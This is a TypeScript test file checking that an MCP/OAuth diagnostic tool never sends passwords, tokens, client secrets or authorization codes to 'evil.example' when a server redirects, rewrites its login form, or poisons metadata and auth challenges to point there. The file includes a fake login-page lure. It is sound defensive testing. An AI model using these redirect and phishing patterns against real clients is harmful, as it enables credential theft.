// What a person hands over and what a sign-in gives is shown to the hosts that discovery bound to the typed URL, whatever the server answers.

import { expect, test } from 'vitest'
import type { DoctorOptions } from '../../src/doctor/doctor.ts'
import { atPath, changed, wellKnownIssuer, whenStatus, withMembers, withToken } from './lab/fault.ts'
import { createLab, html, json, type Lab, user } from './lab/lab.ts'
import { examineLab } from './lab/run.ts'

const evil = 'https://evil.example'
const heldSecret = 'a-secret-that-somebody-holds'

const keepsAll = (path: string | RegExp): ((lab: Lab) => void) => {
  return (lab) => lab.addEdge(atPath(path, () => redirect(`${evil}/`, 307)))
}

const traps: readonly (readonly [string, (lab: Lab) => void])[] = [
  ['the URL redirects there', keepsAll('/mcp')],
  [
    'whoever has a token is redirected there',
    (lab) => lab.addEdge(withToken(() => redirect(`${evil}/mcp`, 307))),
  ],
  ['the token endpoint redirects there', keepsAll('/token')],
  ['the revocation endpoint redirects there', keepsAll('/revoke')],
  ['the registration redirects there', keepsAll('/register')],
  ['the removal of the client redirects there', keepsAll(/^\/register\/./)],
  [
    'the client is to be managed there',
    (lab) =>
      lab.addEdge(
        atPath(
          '/register',
          withMembers(() => ({ registration_client_uri: `${evil}/register/1` })),
        ),
      ),
  ],
  [
    'the authorization endpoint leads to a login page there',
    (lab) => lab.addEdge(atPath('/authorize', () => redirect(`${evil}/login`))),
  ],
  [
    'the login form goes there',
    (lab) =>
      lab.addEdge(
        atPath(
          '/authorize',
          whenStatus(200, async (request, next) => {
            const page = await (await next(request)).text()
            return html(page.replace(/action="[^"]*"/, `action="${evil}/login"`))
          }),
        ),
      ),
  ],
  ['what is sent with the login form is to be sent there', keepsAll('/sign-in')],
  [
    'the challenge points there',
    (lab) => {
      const challenge = `Bearer resource_metadata="${evil}/metadata", scope="notes:read"`
      lab.addEdge(atPath('/mcp', whenStatus(401, changed({ headers: { 'WWW-Authenticate': challenge } }))))
    },
  ],
  [
    'the metadata of the issuer is of one there',
    (lab) =>
      lab.addEdge(
        atPath(
          wellKnownIssuer,
          withMembers(() => ({
            issuer: evil,
            token_endpoint: `${evil}/token`,
            revocation_endpoint: `${evil}/revoke`,
          })),
        ),
      ),
  ],
]

const ways: readonly (readonly [string, Partial<DoctorOptions>])[] = [
  ['signing in', {}],
  ['with a client that somebody holds', { clientId: 'held', clientSecret: heldSecret }],
  ['with a token that somebody holds', { token: heldSecret }],
]

const cases = traps.flatMap(([trap, set]) => ways.map(([way, options]) => [trap, way, set, options] as const))

test.each(cases)('%s, %s: nothing that is secret goes there [SBP-08]', async (_, __, set, options) => {
  const lab = createLab()
  const secrets = new Set([heldSecret, user.password])
  const sent: string[] = []
  set(lab)
  lab.addEdge(async (request, next) => {
    const { hostname } = new URL(request.url)
    if (hostname !== 'mcp.lab.example') {
      const headers = [...request.headers].join('\n')
      sent.push(
        decodeURIComponent(`${request.url}\n${headers}\n${await request.text()}`.replaceAll('+', ' ')),
      )
      return lure(request)
    }
    const answer = await next(request)
    for (const secret of await secretsOf(answer)) secrets.add(secret)
    return answer
  })
  const fetch = lab.fetch
  lab.fetch = (input, init) => followed(fetch, input, init)
  await examineLab(lab, { isIntrusive: true, ...options })
  expect(sent.filter((text) => [...secrets].some((secret) => text.includes(secret)))).toEqual([])
})

test('the traps are real: a fetch that follows would have fallen into them', async () => {
  const lab = createLab()
  keepsAll('/token')(lab)
  const body = new URLSearchParams({ code: heldSecret })
  const seen: string[] = []
  lab.addEdge(async (request, next) => {
    if (request.url.startsWith(evil)) seen.push(await request.text())
    return next(request)
  })
  await followed(lab.fetch, 'https://mcp.lab.example/token', { method: 'POST', body })
  expect(seen).toEqual([body.toString()])
})

function redirect(location: string, status = 302): Response {
  return new Response(null, { status, headers: { Location: location } })
}

/** Whatever it is asked, it plays along: as resource, as issuer, as login page. */
function lure(request: Request): Response {
  const { pathname } = new URL(request.url)
  if (pathname === '/metadata') return json({ resource: `${evil}/mcp`, authorization_servers: [evil] })
  if (pathname === '/login')
    return html(
      `<form method="post" action="/login"><input name="username"><input type="password" name="password"><button>Sign in</button></form>`,
    )
  return json({ issuer: evil, access_token: 'x', token_type: 'Bearer' })
}

/** Not `client_secret`: of a client that the doctor registered, to try the token endpoint with, wherever metadata says that it is. */
const secretMembers = ['access_token', 'refresh_token', 'registration_access_token']

async function secretsOf(answer: Response): Promise<string[]> {
  const code = URL.parse(answer.headers.get('location') ?? '')?.searchParams.get('code')
  const body: unknown = await answer
    .clone()
    .json()
    .catch(() => undefined)
  const members = Object.entries(typeof body === 'object' && body !== null ? body : {})
  const given = members.flatMap(([name, value]) => (secretMembers.includes(name) ? [String(value)] : []))
  return code == null ? given : [...given, code]
}

/** As the standard has it: whoever does not say `manual` is led on, with method and body where the status keeps them. */
async function followed(
  plain: typeof fetch,
  input: Parameters<typeof fetch>[0],
  init: RequestInit = {},
): Promise<Response> {
  const answer = await plain(input, init)
  const location = answer.headers.get('location')
  if (init.redirect === 'manual' || location === null || answer.status < 300) return answer
  const keeps = answer.status === 307 || answer.status === 308
  return followed(plain, location, keeps ? init : { headers: init.headers ?? {} })
}
